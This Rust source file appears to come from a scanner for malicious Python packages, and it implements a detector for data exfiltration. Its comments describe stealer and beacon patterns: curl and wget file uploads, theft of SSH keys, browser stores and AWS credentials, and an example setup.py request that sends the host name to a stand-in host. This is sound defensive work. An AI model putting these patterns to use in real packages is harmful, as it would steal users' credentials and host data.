//! Exfiltration chain.
//!
//! **Detects** (`exfiltration`, critical) data flowing out to a destination the
//! package itself fixes — a literal host or IP, a chat webhook or bot API, a DNS
//! name under a literal domain:
//! - secrets (credential files, browser stores, wallets, keyrings, tokens in the
//!   environment, SSH keys) or the whole environment: in any context when the
//!   destination is fixed; during install or import wherever it goes;
//! - host facts (user, host name, MAC, public IP, working directory) sent during
//!   install or import, or by the top-level code of any package module (it runs
//!   whenever that module is imported), to a fixed destination — the
//!   dependency-confusion probe;
//! - during install, collection and sending reachable from the same entry point even
//!   when the flow is indirect (stealers pass data through files and globals); during
//!   import the same when the destination is fixed or what is collected is a secret;
//! - anything computed posted to a hard-coded chat webhook / bot endpoint, and browser
//!   or wallet stores read by a file that logs a chat bot in with a hard-coded token and
//!   uploads files through it (a Discord/Telegram RAT);
//! - a request sent as soon as the package is imported to a request catcher, IP logger,
//!   what-is-my-IP service, tunnel, dynamic-DNS host or raw IP address: the request
//!   is the report (a download from a file-sharing site is not);
//! - a wallet private key or seed phrase passed to a function (a parameter named so)
//!   and sent, as is or serialised, to a hard-coded host (any context: wallet helpers
//!   that post the key they are given to the author's server);
//! - secrets, wallet keys or credential-file values sent to a URL the code decodes or
//!   assembles at runtime, and any computed upload to a URL it decodes (any context:
//!   a hidden destination is the intent);
//! - a shell command uploading a file (`curl -F file=@…`, `curl -T`, `wget
//!   --post-file`) to a host fixed in the package, run from an entry point that also
//!   names credential or stealer paths (SSH keys, shell history, browser stores): the
//!   stealer that stages what it takes in an archive and hands it to curl;
//! - values parsed out of a credential file (a configparser reading ~/.aws/credentials)
//!   sent over the network, in any context. A transaction signed
//!   with the key does not count: signing is what wallets do.
//!
//! **Not an alert here:** looking up the machine's own name or addresses (to bind or
//! print), sending host facts at runtime to a URL the caller passes in, a telemetry
//! client posting where it is configured to — capabilities that `network-access`
//! notes at most.
//!
//! **Why risky:** dependency-confusion probes and stealers do exactly this.
//!
//! **Example:** `requests.get("https://x.example/c", params={"h": socket.gethostname()})`
//! in setup.py.
//!
//! **Remedy:** do not install; rotate any credentials it could reach.

use crate::analysis::python::{evidence::{at, collector_host, webhook_kind}, sensitive_paths::{sensitive_path, PathClass}, shellcmd, labels::Labels, model::{Call, Model}, names};
use crate::alerts::AlertId;
use crate::analysis::source::FileRole;
use crate::finding::{ExecContext, Finding};

fn is_send(q: &str) -> bool {
    names::network_call(q).is_some() || names::socket_send(q) || names::request_object(q)
}

/// The folded URL of a call (first argument or `url=`) after its http(s) scheme.
fn http_url_rest(c: &Call) -> Option<&str> {
    let url = c.args.first().or_else(|| c.kw("url"))?.text.as_deref()?;
    url.strip_prefix("https://").or_else(|| url.strip_prefix("http://"))
}

/// The hard-coded host of a call's URL when the scheme and host are literal text and
/// the host is not this machine.
fn literal_host(c: &Call) -> Option<String> {
    let rest = http_url_rest(c)?;
    let host: String = rest.chars().take_while(|ch| ch.is_ascii_alphanumeric() || matches!(ch, '.' | '-' | '_' | ':')).collect();
    let host = host.split(':').next().unwrap_or("").to_ascii_lowercase();
    let ends = rest[host.len()..].chars().next();
    (host.contains('.') && !matches!(ends, Some('…')) && !host.starts_with("127.") && host != "localhost").then_some(host)
}

/// A DNS lookup of a literal name that cannot be a service host: a label with `_`
/// (not valid in host names, so it carries data) or a deep name of 4+ labels — the
/// shape of DNS beacons that report an install to a name server the author watches.
fn dns_beacon_name(c: &Call) -> Option<&str> {
    if names::network_call(&c.q) != Some("dns") {
        return None;
    }
    let a0 = c.args.first()?;
    let t = a0.text.as_deref().filter(|_| a0.exact)?;
    let labels: Vec<&str> = t.trim_end_matches('.').split('.').collect();
    let hostlike = labels.iter().all(|l| !l.is_empty() && l.chars().all(|ch| ch.is_ascii_alphanumeric() || ch == '-' || ch == '_'));
    let tld_alpha = labels.last().map(|l| l.chars().all(|ch| ch.is_ascii_alphabetic())).unwrap_or(false);
    (hostlike && tld_alpha && labels.len() >= 3 && (labels.len() >= 4 || labels.iter().any(|l| l.contains('_')))).then_some(t)
}

/// A call that collects host or secret data.
fn collects(c: &Call) -> bool {
    is_collector(c) || c.labels().has(Labels::SECRET)
}

/// A call whose own job is collecting (not one that merely carries collected data): a
/// "what is my IP" request is a collection, not a send.
fn is_collector(c: &Call) -> bool {
    names::host_info_call(&c.q)
        || names::secret_source_call(&c.q)
        || matches!(c.q.as_str(), "os.getenv" | "os.environ.get")
            && c.args.first().and_then(|a| a.text.as_deref()).map(|k| names::host_env_name(k) || names::secret_env_name(k)).unwrap_or(false)
        || names::network_call(&c.q).is_some() && c.args.first().and_then(|a| a.text.as_deref()).map(names::ip_lookup_url).unwrap_or(false)
}

/// The call sends something: a computed body, bytes on a socket, anything to a drop
/// box, or a non-fetch verb (POST, PUT, an SMTP/FTP session).
fn carries_data(c: &Call) -> bool {
    if names::socket_send(&c.q) || webhook_target(c).is_some() {
        return true;
    }
    // opening a connection or resolving a name sends no payload of its own
    if matches!(names::network_call(&c.q), Some("socket" | "dns") | None) {
        return false;
    }
    c.payload_dynamic || !names::is_fetch(&c.q) && !names::request_object(&c.q)
}

/// Labels of what a call sends as data: every argument but authentication.
fn payload_labels(c: &Call) -> Labels {
    let mut l = Labels::NONE;
    for a in &c.args {
        l |= a.labels;
    }
    for (k, v) in &c.kwargs {
        if !matches!(k.as_str(), "headers" | "auth" | "cookies" | "cert" | "verify" | "proxies") {
            l |= v.labels;
        }
    }
    if names::socket_send(&c.q) {
        l |= c.recv & Labels::SECRET;
    }
    l
}

/// A call that collects credentials rather than host facts.
fn collects_secret(c: &Call) -> bool {
    names::secret_source_call(&c.q)
        || matches!(c.q.as_str(), "os.getenv" | "os.environ.get") && c.args.first().and_then(|a| a.text.as_deref()).map(names::secret_env_name).unwrap_or(false)
        || c.labels().has(Labels(Labels::SECRET.0 | Labels::TOKEN.0))
}

fn webhook_target(c: &Call) -> Option<&'static str> {
    c.args.iter().chain(c.kwargs.iter().map(|(_, v)| v)).filter_map(|a| a.text.as_deref()).find_map(webhook_kind)
}

/// Where a send call's data goes when the package itself fixes it, described for the
/// message; None when the destination comes from outside (a parameter, configuration).
fn fixed_destination(m: &Model, c: &Call) -> Option<String> {
    if let Some(kind) = webhook_target(c) {
        return Some(format!("a hard-coded {kind}"));
    }
    if let Some(host) = literal_url_host(c) {
        return Some(format!("hard-coded host `{host}`"));
    }
    match names::network_call(&c.q) {
        Some("dns") => return dns_data_domain(c).map(|d| format!("DNS names under `{d}`")),
        Some("smtplib" | "ftplib" | "telnetlib" | "socket") => {
            if let Some(h) = c.args.first().and_then(|a| a.text.as_deref()).filter(|t| literal_remote_host(t)) {
                return Some(format!("hard-coded host `{h}`"));
            }
        }
        _ => {}
    }
    if names::socket_send(&c.q) || names::network_call(&c.q) == Some("socket") {
        // the address of a socket is a tuple the model does not fold: a literal remote
        // IPv4 address in the file is the socket's fixed peer
        if let Some(ip) = m.literals.iter().map(|l| l.value.as_str()).find(|v| is_remote_ipv4(v)) {
            return Some(format!("hard-coded address `{ip}`"));
        }
    }
    None
}

/// The literal host of a call's URL, loopback included: a destination written into
/// the package is fixed wherever it points.
fn literal_url_host(c: &Call) -> Option<String> {
    let rest = http_url_rest(c)?;
    let host: String = rest.chars().take_while(|ch| ch.is_ascii_alphanumeric() || matches!(ch, '.' | '-' | '_' | ':' | '[' | ']')).collect();
    let ends = rest[host.len()..].chars().next();
    let host = host.split(':').next().unwrap_or("").to_ascii_lowercase();
    (!host.is_empty() && (host.contains('.') || host == "localhost") && !matches!(ends, Some('…'))).then_some(host)
}

/// A literal host name or address (a socket's or mail server's peer).
fn literal_remote_host(t: &str) -> bool {
    let t = t.trim().to_ascii_lowercase();
    !t.is_empty()
        && !t.contains('…')
        && t.contains('.')
        && t.chars().all(|ch| ch.is_ascii_alphanumeric() || matches!(ch, '.' | '-' | '_'))
        && !t.starts_with("0.")
}

fn is_remote_ipv4(v: &str) -> bool {
    let parts: Vec<&str> = v.split('.').collect();
    parts.len() == 4
        && parts.iter().all(|p| !p.is_empty() && p.len() <= 3 && p.bytes().all(|b| b.is_ascii_digit()) && p.parse::<u16>().map(|n| n < 256).unwrap_or(false))
        && !matches!(parts[0], "0" | "255")
}

/// A DNS lookup whose name is data under a literal domain (`f"{data}.x.example.com"`):
/// the literal part after the last computed piece has at least two labels and an
/// alphabetic top-level label. The machine's own name (`gethostname() + ".local"`) is
/// not such a name.
fn dns_data_domain(c: &Call) -> Option<String> {
    let a0 = c.args.first()?;
    let t = a0.text.as_deref()?;
    let (_, suffix) = t.rsplit_once('…')?;
    let suffix = suffix.trim_start_matches(['.', '-']).trim_end_matches('.');
    let labels: Vec<&str> = suffix.split('.').collect();
    let hostlike = labels.iter().all(|l| !l.is_empty() && l.chars().all(|ch| ch.is_ascii_alphanumeric() || ch == '-'));
    let tld_alpha = labels.last().map(|l| l.len() >= 2 && l.chars().all(|ch| ch.is_ascii_alphabetic())).unwrap_or(false);
    (hostlike && tld_alpha && labels.len() >= 2 && !matches!(*labels.last()?, "local" | "localdomain" | "lan" | "internal" | "home"))
        .then(|| suffix.to_ascii_lowercase())
}

pub(super) fn check(m: &Model, out: &mut Vec<Finding>) {
    let mut flagged_scopes = Vec::new();
    for c in &m.calls {
        if !is_send(&c.q) {
            continue;
        }
        let mut l = c.labels();
        if names::socket_send(&c.q) {
            l |= c.recv & Labels::SECRET;
        }
        let runtime = m.ctx(c.scope) == ExecContext::Runtime;
        let dest = fixed_destination(m, c);
        let where_ = m.scope(c.scope).describe();
        // at runtime an API token goes to its own service and credentials in `auth=`/
        // `headers=` authenticate the call; stealers put what they take in the body
        let secrets = if runtime {
            payload_labels(c) & Labels(Labels::SECRET.0 | Labels::ENV.0)
        } else {
            l & Labels(Labels::SECRET.0 | Labels::ENV.0 | Labels::TOKEN.0)
        };
        // top-level statements of a package module run whenever that module is
        // imported, whoever imports it: a beacon there needs no entry point
        let module_body = m.module_body(c.scope);
        let mut host = l & Labels::HOST;
        if !runtime || module_body {
            host |= l & Labels::WEAK_HOST;
        }
        let to = dest.as_deref().map(|d| format!(" to {d}")).unwrap_or_default();
        // a wallet private key / seed phrase handed to this code, sent to a fixed host:
        // signing is local, so the only reason to send the secret is to steal it
        if l.has(Labels::WALLET) && !names::socket_send(&c.q) {
            if let Some(host) = literal_host(c) {
                flagged_scopes.push(c.scope);
                out.push(at(m, AlertId::Exfiltration, c.scope, c.line, format!("sends a wallet private key / seed phrase it was given to hard-coded host `{host}` with {}() {where_}", c.q)));
                continue;
            }
        }
        // secrets sent where the code hides the destination (a URL decoded or assembled
        // at runtime): a service the package may name has no reason to be hidden
        let dest_labels = c.args.first().or_else(|| c.kw("url")).map(|u| u.labels).unwrap_or_default();
        let hidden_dest = dest_labels.has(Labels::DECODED) || dest_labels.has(Labels::BUILT) && !dest_labels.has(Labels::PARAM);
        let stolen = payload_labels(c) & Labels(Labels::WALLET.0 | Labels::SECRET.0 | Labels::CRED_FILE.0);
        if hidden_dest && !stolen.is_empty() && !names::socket_send(&c.q) {
            flagged_scopes.push(c.scope);
            out.push(at(m, AlertId::Exfiltration, c.scope, c.line, format!("sends {} to an endpoint it decodes or assembles at runtime with {}() {where_}", stolen.describe_data(), c.q)));
            continue;
        }
        // an upload to an address the package ships encoded: the encoding hides where
        // the data goes from review, and nothing the caller passes chooses it
        if dest_labels.has(Labels::DECODED) && c.payload_dynamic && !names::socket_send(&c.q) {
            flagged_scopes.push(c.scope);
            out.push(at(m, AlertId::Exfiltration, c.scope, c.line, format!("uploads data to an address it ships encoded (decoded at runtime) with {}() {where_}", c.q)));
            continue;
        }
        // secrets parsed out of a credential file and sent: API clients send a token,
        // never the credential file's contents
        if l.has(Labels::CRED_FILE) {
            flagged_scopes.push(c.scope);
            out.push(at(m, AlertId::Exfiltration, c.scope, c.line, format!("sends values parsed from a credential file with {}() {where_}", c.q)));
            continue;
        }
        if !secrets.is_empty() && !is_collector(c) && (!runtime || dest.is_some()) {
            flagged_scopes.push(c.scope);
            out.push(at(m, AlertId::Exfiltration, c.scope, c.line, format!("sends {} with {}(){to} {where_}", (secrets | host).describe_data(), c.q)));
            continue;
        }
        let collector = c.args.first().or_else(|| c.kw("url")).and_then(|a| a.text.as_deref()).and_then(|u| {
            let l = u.to_ascii_lowercase();
            collector_host(&l).or_else(|| shellcmd::has_raw_ip_url(&l).then_some("raw IP address"))
        });
        if !host.is_empty() && !is_collector(c) && ((!runtime || module_body) && dest.is_some() || collector.is_some()) {
            flagged_scopes.push(c.scope);
            out.push(at(m, AlertId::Exfiltration, c.scope, c.line, format!("sends {} with {}(){to} {where_}", host.describe_data(), c.q)));
            continue;
        }
        if let Some(kind) = webhook_target(c) {
            // a chat webhook / bot token is a drop box: anything computed posted to it
            // is exfiltration wherever the code runs
            if !runtime || c.payload_dynamic {
                flagged_scopes.push(c.scope);
                out.push(at(m, AlertId::Exfiltration, c.scope, c.line, format!("posts to a hard-coded {kind} with {}() {where_}", c.q)));
                continue;
            }
        }
        // import-time beacons in a package's __init__: data sent to a hard-coded host,
        // or a DNS lookup of a name that only a beacon would resolve
        let import_time = m.ctx(c.scope) == ExecContext::Import && m.role == FileRole::PackageInit;
        // a request to a request catcher, IP logger or raw address as soon as the package
        // is imported: the request itself reports who imported it
        if m.ctx(c.scope) == ExecContext::Import && names::network_call(&c.q).is_some() {
            if let Some(kind) = collector.filter(|k| matches!(*k, "request catcher" | "IP logger" | "what-is-my-IP service" | "tunnel" | "dynamic-DNS host" | "raw IP address")) {
                flagged_scopes.push(c.scope);
                out.push(at(m, AlertId::Exfiltration, c.scope, c.line, format!("beacons to a {kind} with {}() {where_}", c.q)));
                continue;
            }
        }
        if import_time && names::network_call(&c.q).is_some() && c.payload_dynamic {
            if let Some(host) = literal_host(c) {
                flagged_scopes.push(c.scope);
                out.push(at(m, AlertId::Exfiltration, c.scope, c.line, format!("sends computed data to hard-coded host `{host}` with {}() {where_}", c.q)));
                continue;
            }
        }
        if !runtime && matches!(m.role, FileRole::PackageInit | FileRole::SetupScript) {
            if let Some(name) = dns_beacon_name(c) {
                flagged_scopes.push(c.scope);
                out.push(at(m, AlertId::Exfiltration, c.scope, c.line, format!("DNS beacon: resolves `{name}` with {}() {where_}", c.q)));
                continue;
            }
        }
    }
    shell_uploads(m, &mut flagged_scopes, out);
    // entry points that collect and send, flow or not
    let any_send = m.calls.iter().any(|c| is_send(&c.q) && !collects(c));
    let stealer_lits: Vec<usize> = m
        .literals
        .iter()
        .filter(|l| matches!(sensitive_path(&l.value), Some((PathClass::StealerTarget, _))))
        .map(|l| l.scope)
        .collect();
    // stealer shape: several browser/wallet/token stores named and a send in one file
    let distinct: std::collections::BTreeSet<&str> = m
        .literals
        .iter()
        .filter_map(|l| match sensitive_path(&l.value) {
            Some((PathClass::StealerTarget, _)) => Some(l.value.as_str()),
            _ => None,
        })
        .collect();
    let file_has_dropbox = m.literals.iter().any(|l| webhook_kind(&l.value).is_some());
    if distinct.len() >= 2 && flagged_scopes.is_empty() {
        // a request object built or a page fetched is not a send; a body, a socket or a
        // drop box is (cookie readers that fetch pages are not stealers); with a bot
        // token in the file, a file handed to a chat `send` goes to that bot's owner
        let send = m.calls.iter().find(|c| is_send(&c.q) && !collects(c) && carries_data(c));
        let bot_upload = || file_has_dropbox.then(|| m.calls.iter().find(|c| chat_file_upload(c))).flatten();
        if let Some(send) = send.or_else(bot_upload) {
            let mut what: Vec<&str> = distinct.iter().filter_map(|v| sensitive_path(v).map(|x| x.1)).collect();
            what.dedup();
            what.truncate(3);
            out.push(at(
                m,
                AlertId::Exfiltration,
                send.scope,
                send.line,
                format!("reads {} and sends with {}() {}", what.join(", "), send.q, m.scope(send.scope).describe()),
            ));
            return;
        }
    }
    let any_collect = !stealer_lits.is_empty() || m.calls.iter().any(collects);
    if !(any_send && any_collect) {
        return;
    }
    for (i, s) in m.scopes.iter().enumerate() {
        if flagged_scopes.contains(&i) || m.is_called(i) {
            continue;
        }
        let scopes = m.reachable(i);
        if scopes.iter().any(|x| flagged_scopes.contains(x)) {
            continue;
        }
        let webhook_send = m.calls.iter().find(|c| scopes.contains(&c.scope) && is_send(&c.q) && webhook_target(c).is_some());
        if s.ctx == ExecContext::Runtime && webhook_send.is_none() && !file_has_dropbox {
            continue;
        }
        let collect_call = m.calls.iter().find(|c| scopes.contains(&c.scope) && collects(c));
        let collect_lit = stealer_lits.iter().any(|x| scopes.contains(x));
        let send = webhook_send.or_else(|| {
            m.calls.iter().find(|c| {
                // a DNS lookup carries data only under a literal domain; resolving a
                // name (this machine's, a service's) sends nothing
                scopes.contains(&c.scope) && is_send(&c.q) && !collects(c) && (names::network_call(&c.q) != Some("dns") || dns_data_domain(c).is_some())
            })
        });
        let Some(send) = send else { continue };
        // at import, host facts and an open destination are a library's ordinary
        // business (logging, telemetry it is configured for); secrets or a fixed
        // destination are not
        // a send carries data in a body, on a socket or to a drop box; a plain download
        // (a build picking the driver for `os.uname()`) or a bare connection (a
        // connectivity check) carries nothing — data in its URL was flagged above
        let carries = carries_data(send);
        let secret = collect_lit || m.calls.iter().any(|c| scopes.contains(&c.scope) && collects_secret(c));
        if !carries && !collect_lit {
            continue;
        }
        if s.ctx == ExecContext::Import && !secret && fixed_destination(m, send).is_none() {
            continue;
        }
        let what = match (collect_call, collect_lit) {
            (Some(col), _) => format!("collects data with {}() (line {})", col.q, col.line),
            (None, true) => "reads browser/wallet/token stores".to_string(),
            (None, false) => continue,
        };
        flagged_scopes.push(i);
        out.push(at(m, AlertId::Exfiltration, send.scope, send.line, format!("{what} and sends with {}() {}", send.q, s.describe())));
    }
}

/// A chat client's upload of a file: `send_document`/`send_file`/`send_photo`, or a
/// `send` with a `file=`/`files=` attachment (discord.py's `ctx.send(file=…)`).
fn chat_file_upload(c: &Call) -> bool {
    let last = c.q.rsplit('.').next().unwrap_or(&c.q);
    matches!(last, "send_document" | "send_file" | "send_photo") || last == "send" && (c.kw("file").is_some() || c.kw("files").is_some())
}

/// Shell uploads to a fixed host from an entry point that names what stealers take. The
/// data passes through files (copied, zipped, then uploaded), which the model does not
/// follow; the entry point holding both ends is the chain.
fn shell_uploads(m: &Model, flagged_scopes: &mut Vec<usize>, out: &mut Vec<Finding>) {
    let uploads: Vec<(&Call, String)> = m
        .calls
        .iter()
        .filter(|c| names::shell_call(&c.q).is_some())
        .filter_map(|c| c.command_text().and_then(|t| shellcmd::file_upload_host(&t)).map(|h| (c, h)))
        .collect();
    if uploads.is_empty() {
        return;
    }
    for i in 0..m.scopes.len() {
        if m.is_called(i) || flagged_scopes.contains(&i) {
            continue;
        }
        let scopes = m.reachable(i);
        let Some((up, host)) = uploads.iter().find(|(c, _)| scopes.contains(&c.scope)) else { continue };
        let mut taken: Vec<&str> = m.literals.iter().filter(|l| scopes.contains(&l.scope)).filter_map(|l| sensitive_path(&l.value).map(|x| x.1)).collect();
        taken.sort_unstable();
        taken.dedup();
        if taken.is_empty() {
            continue;
        }
        taken.truncate(3);
        flagged_scopes.push(i);
        out.push(at(m, AlertId::Exfiltration, up.scope, up.line, format!("names {} and uploads files with a shell command to hard-coded host `{host}` {}", taken.join(", "), m.scope(i).describe())));
    }
}
